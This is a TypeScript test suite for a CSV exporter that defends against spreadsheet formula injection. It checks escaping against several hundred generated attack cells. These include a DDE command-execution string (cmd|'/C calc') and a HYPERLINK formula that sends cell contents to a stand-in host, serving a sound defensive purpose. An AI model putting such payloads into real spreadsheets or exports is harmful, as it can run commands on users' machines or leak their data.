import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { csvOf, plainCell, safeCell } from '../../demo/receiver/csv.js';

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const before = ['', ' ', '\u00a0', '\ufeff', '\u200b', "'"];
const after = ['1+1', 'SUM(A1:A9)', "cmd|'/C calc'!A0", 'HYPERLINK("https://firm.example?"&A1,"a")'];
const formulas = starts.flatMap((start) => before.flatMap((lead) => after.map((rest) => lead + start + rest)));
const plain = ['', 'Sample', 'a "quoted" word', 'one, two; three', 'two\nlines', "it's", 'a=b', '7 - 2', '﷽', "''"];
const numbers = ['0', '-5', '12.40', '-0.5', '-1250.00', '50%', '-2.5%'];

suite('The table for a spreadsheet', () => {
  test(`holds no formula: none of ${formulas.length} cells is left to be one`, () => {
    assert.ok(formulas.length >= 300);
    for (const cell of cellsOf(csvOf(formulas.map((text) => [text])))) {
      // A program that takes off spaces and invisible characters before it looks finds a word, too.
      for (const seen of [cell, cell.trim(), cell.normalize('NFKC').replace(/^[\s\p{Cf}\p{Cc}]+/u, '')]) {
        assert.doesNotMatch(seen, /^[=+\-@\t\r\n]/, JSON.stringify(cell));
      }
    }
  });

  test('gives every text back unchanged, whatever separates and quotes', () => {
    const texts = [...formulas, ...plain];
    assert.deepEqual(cellsOf(csvOf(texts.map((text) => [text]))).map(plainCell), texts);
    assert.deepEqual(cellsOf(csvOf([texts, texts])).map(plainCell), [...texts, ...texts]);
  });

  test('leaves numbers numbers, the negative ones too', () => {
    assert.equal(csvOf([numbers]), `\ufeff${numbers.join(',')}\r\n`);
    for (const text of ['-1-1', '+5', '-', '-0012', '-1e9', '--5', '-5 ']) assert.equal(safeCell(text), `'${text}`);
  });

  test('does not fall apart where lists are separated by semicolons', () => {
    assert.equal(csvOf([['R-1', 'a;=1+1']]), '\ufeff"R-1","a;=1+1"\r\n');
  });
});

/** Reads as RFC 4180 says, by another way than the one that writes. */
function cellsOf(text: string): string[] {
  const cells: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/y;
  pattern.lastIndex = 1;
  for (let match = pattern.exec(text); match; match = pattern.exec(text)) {
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
  }
  return cells;
}
